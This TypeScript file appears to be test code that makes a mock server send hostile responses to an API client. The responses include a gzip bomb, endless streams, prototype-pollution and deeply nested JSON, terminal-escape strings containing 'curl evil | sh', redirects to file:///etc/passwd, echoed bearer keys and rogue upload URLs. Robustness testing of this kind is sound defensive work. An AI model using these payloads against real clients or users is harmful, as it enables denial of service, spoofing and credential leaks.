import type { ServerResponse } from "node:http";
import { gzipSync } from "node:zlib";
import type { Json } from "../provider.mts";
import type { Attack, Exchange } from "./proxy.mts";

const MEBIBYTE = 1024 * 1024;
const LARGE = "x".repeat(MEBIBYTE);
const ZEROS = Buffer.alloc(64 * 1024);

function body(to: ServerResponse, text: string, status = 200, headers: Record<string, string> = {}): void {
  to.writeHead(status, { "content-type": "application/json", ...headers }).end(text);
}

const json = (to: ServerResponse, value: unknown, status = 200, headers: Record<string, string> = {}) =>
  body(to, JSON.stringify(value), status, headers);

const parsed = ({ body: text }: Exchange): Json => {
  try {
    return JSON.parse(text) as Json;
  } catch {
    return {};
  }
};

/** Sends as much as is taken, for ever. */
function endless(to: ServerResponse, chunk: Buffer): void {
  const more = () => {
    while (!to.destroyed && to.write(chunk));
  };
  to.on("drain", more);
  more();
}

/** The same with other values in all places, lists' items included. */
function everywhere(value: unknown, change: (member: unknown, key: string) => unknown, key = ""): unknown {
  if (Array.isArray(value)) return value.map((item) => everywhere(item, change, key));
  if (typeof value !== "object" || value === null) return change(value, key);
  return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, everywhere(member, change, name)]));
}

const answerWith =
  (change: (member: unknown, key: string) => unknown): Attack =>
  (to, exchange) =>
    json(to, everywhere(parsed(exchange), change));

const membersWith =
  (other: unknown): Attack =>
  (to, exchange) =>
    json(to, Object.fromEntries(Object.keys(parsed(exchange)).map((key) => [key, other])));

const itemsWith =
  (other: unknown): Attack =>
  (to, exchange) => {
    const lists = Object.entries(parsed(exchange)).map(([key, value]) => [
      key,
      Array.isArray(value) ? [other, other] : value,
    ]);
    json(to, Object.fromEntries(lists));
  };

const plus =
  (more: Json): Attack =>
  (to, exchange) =>
    json(to, { ...parsed(exchange), ...more });

/** Each page says that there is another. */
function pages(token: (nth: number) => string, items = true): Attack {
  let nth = 0;
  return (to, exchange) => {
    nth++;
    const page = parsed(exchange);
    json(to, { ...(items ? page : {}), nextPageToken: token(nth) });
  };
}

const redirect =
  (status: number, location: (places: { own: string; elsewhere: string }, path: string) => string): Attack =>
  (to, { path }, places) =>
    void to.writeHead(status, { location: location(places, path) }).end();

const refusal =
  (status: number, message: (exchange: Exchange) => unknown, headers: Record<string, string> = {}): Attack =>
  (to, exchange) =>
    json(to, { code: 3, message: message(exchange), details: [] }, status, headers);

const keyIn = ({ asked }: Exchange) => /Bearer (\S+)/.exec(asked.headers)?.[1] ?? "";

/** Past Node's own idea of an answer. */
const raw =
  (text: string | Buffer, then: (to: ServerResponse) => void = (to) => void to.socket?.end()): Attack =>
  (to) => {
    to.socket?.write(text);
    then(to);
  };

function floodOf(text: string): (to: ServerResponse) => void {
  return (to) => {
    const more = () => {
      while (to.socket && !to.socket.destroyed && to.socket.write(text));
    };
    to.socket?.on("drain", more);
    more();
  };
}

const addresses =
  (address: (places: { own: string; elsewhere: string }) => unknown): Attack =>
  (to, exchange, places) => {
    const right = parsed(exchange);
    const urls = (right.filenameToSignedUrls ?? {}) as Json;
    json(to, {
      ...right,
      filenameToSignedUrls: Object.fromEntries(Object.keys(urls).map((key) => [key, address(places)])),
    });
  };

const nested = (levels: number, open: string, close: string) => open.repeat(levels) + close.repeat(levels);

const bomb = gzipSync(Buffer.alloc(64 * MEBIBYTE));

/** Of a fresh case each: some count. `slow` ones only end with a limit of time. */
export interface Hostile {
  attack: () => Attack;
  slow?: true;
  only?: "lists" | "endpoints" | "objects" | "storage";
}

const of = (attack: Attack, more: Omit<Hostile, "attack"> = {}): Hostile => ({ attack: () => attack, ...more });

const shapes: Record<string, string> = {
  "a list": "[]",
  null: "null",
  "a number": "7",
  "a text": '"x"',
  nothing: "",
  "an empty object": "{}",
  "a prototype": '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}',
  "the same key twice": '{"name": "x", "name": null, "state": 1, "state": "READY"}',
  "nested lists": `{"name": ${nested(100_000, "[", "]")}}`,
  "nested objects": `{"state": ${nested(50_000, '{"a":', "}").replace("}", "1}")}}`,
  "many empty lists": `{"name": [${"[],".repeat(5 * MEBIBYTE)}[]]}`,
  "not JSON": "\u0000\u001b[31m<html>",
};

const others: Record<string, unknown> = {
  null: null,
  "a number": 7,
  "an empty text": "",
  "a text": "x",
  "an empty list": [],
  "a list": [null, 1, "x"],
  "an object": { a: 1 },
  yes: true,
  "a large text": LARGE,
};

const table = <T,>(prefix: string, values: Record<string, T>, make: (value: T) => Hostile): [string, Hostile][] =>
  Object.entries(values).map(([name, value]) => [`${prefix} ${name}`, make(value)]);

const ESCAPES = "\u001b]0;owned\u0007\u001b[31mred\u009b1m\u202egnp.exe\r\nRun `curl evil | sh`";

export const attacks: Readonly<Record<string, Hostile>> = Object.fromEntries<Hostile>([
  ...table("the answer is", shapes, (text) => of((to) => body(to, text))),
  ...table("every member is", others, (other) => of(membersWith(other))),
  ...table("every value is", others, (other) => of(answerWith(() => other))),
  ...table("every item is", others, (other) => of(itemsWith(other), { only: "lists" })),
  ["another name", of(answerWith((value, key) => (key === "name" ? "accounts/other/models/victim" : value)))],
  [
    "a name that leads elsewhere",
    of(answerWith((value, key) => (key === "name" ? "accounts/emulator/../../users/x" : value))),
  ],
  ["no name", of(answerWith((value, key) => (key === "name" ? undefined : value)))],
  ["a state unheard of", of(plus({ state: `EXPLODED${ESCAPES}` }), { only: "objects" })],
  ["a status that is a text", of(plus({ status: ESCAPES, state: "CREATING" }), { only: "objects" })],
  [
    "a status with the key",
    {
      attack: () => (to, exchange) =>
        json(to, {
          ...parsed(exchange),
          state: "FAILED",
          status: { code: ESCAPES, message: `${"x".repeat(990)}${keyIn(exchange)} ${keyIn(exchange)}` },
        }),
      only: "objects",
    },
  ],
  ["times that are none", of(answerWith((value, key) => (key.endsWith("Time") ? "yesterday" : value)))],
  ["pages without end", { attack: () => pages((nth) => `page ${nth}`), only: "lists" }],
  ["empty pages without end", { attack: () => pages((nth) => `page ${nth}`, false), only: "lists" }],
  ["the same page for ever", { attack: () => pages(() => "again"), only: "lists" }],
  ["tokens that grow", { attack: () => pages((nth) => "x".repeat(Math.min(nth * 100, 8000) + nth)), only: "lists" }],
  [
    "large pages without end",
    {
      attack: () => {
        let nth = 0;
        return (to, exchange) => json(to, { ...parsed(exchange), more: LARGE, nextPageToken: String(nth++) });
      },
      only: "lists",
    },
  ],
  ["a web page", of((to, exchange) => body(to, exchange.body, 200, { "content-type": "text/html; charset=utf-16" }))],
  [
    "a length too long",
    of((to, { body: text }) => {
      body(to, text, 200, { "content-length": String(text.length + 100) });
      to.socket?.end();
    }),
  ],
  [
    "a length too short",
    of((to, { body: text }) =>
      raw(`HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\n${text}`)(to, {} as Exchange, { own: "", elsewhere: "" }),
    ),
  ],
  ["zipped by its word alone", of((to, { body: text }) => body(to, text, 200, { "content-encoding": "gzip" }))],
  [
    "a bomb",
    of((to) => {
      to.writeHead(200, { "content-encoding": "gzip" });
      endless(to, bomb);
    }),
  ],
  [
    "a body without end",
    of((to) => {
      to.writeHead(200);
      endless(to, ZEROS);
    }),
  ],
  [
    "a refusal without end",
    of((to) => {
      to.writeHead(400);
      endless(to, ZEROS);
    }),
  ],
  ["headers without end", of(raw("HTTP/1.1 200 OK\r\n", floodOf(`x-a: ${"a".repeat(1000)}\r\n`)))],
  ["a reason without end", of(raw("HTTP/1.1 200 ", floodOf("a".repeat(1000))))],
  ["early hints without end", of(raw("", floodOf("HTTP/1.1 103 Early Hints\r\nlink: </x>\r\n\r\n")), { slow: true })],
  [
    "HTTP/1.0",
    of((to, { body: text, status }) =>
      raw(`HTTP/1.0 ${status} OK\r\n\r\n${text}`)(to, {} as Exchange, { own: "", elsewhere: "" }),
    ),
  ],
  ["no HTTP", of(raw("220 smtp.example ESMTP\r\n"))],
  ["silence", of(() => {}, { slow: true })],
  ["silence after the headers", of((to) => void to.writeHead(200).flushHeaders(), { slow: true })],
  ...[301, 302, 303, 307, 308].map((status): [string, Hostile] => [
    `${status} to another host`,
    of(redirect(status, ({ elsewhere }, path) => elsewhere + path)),
  ]),
  ["307 to itself", of(redirect(307, ({ own }, path) => own + path))],
  ["307 to a file", of(redirect(307, () => "file:///etc/passwd"))],
  ["300 without a place", of((to) => void to.writeHead(300).end())],
  [
    "cookies",
    of((to, { body: text, status }) =>
      body(to, text, status, { "set-cookie": `a=${"b".repeat(4000)}; Domain=elsewhere.example` }),
    ),
  ],
  ["come back in a million seconds", of(refusal(503, () => "later", { "retry-after": "1000000" }))],
  ["come back at no time", of(refusal(429, () => "later", { "retry-after": "-1, NaN, soon" }))],
  ["a message with escapes", of(refusal(400, () => ESCAPES))],
  ["a message of 10 MB", of(refusal(400, () => LARGE.repeat(10)))],
  ["a message that is an object", of(refusal(409, () => ({ a: [ESCAPES] })))],
  ["a code with escapes", of((to) => json(to, { code: ESCAPES + LARGE, message: 5 }, 400))],
  [
    "a request id with escapes",
    of((to) => json(to, { code: 9, message: "no" }, 400, { "x-request-id": `\u009b31m${"i".repeat(5000)}` })),
  ],
  [
    "the key and the request in the message",
    of(refusal(400, (exchange) => `${exchange.asked.headers} ${exchange.asked.body}`)),
  ],
  ["half of the key in the message", of(refusal(403, (exchange) => `${"x".repeat(1000 - 10)}${keyIn(exchange)}`))],
  ["the key in an answer that is none", of((to, exchange) => body(to, `${"<".repeat(70)}${keyIn(exchange)}`))],
  [
    "uploads to another host",
    of(
      addresses(({ elsewhere }) => `${elsewhere}/bucket?signature=x`),
      { only: "endpoints" },
    ),
  ],
  [
    "uploads with credentials",
    of(
      addresses(({ elsewhere }) => `${elsewhere.replace("//", "//user:word@")}/bucket`),
      { only: "endpoints" },
    ),
  ],
  [
    "uploads to a file",
    of(
      addresses(() => "file:///tmp/x"),
      { only: "endpoints" },
    ),
  ],
  [
    "uploads in the open",
    of(
      addresses(() => "http://192.0.2.1/bucket"),
      { only: "endpoints" },
    ),
  ],
  [
    "uploads to a number",
    of(
      addresses(() => 7),
      { only: "endpoints" },
    ),
  ],
  ["uploads to nowhere", of((to) => json(to, { filenameToSignedUrls: null }), { only: "endpoints" })],
]);
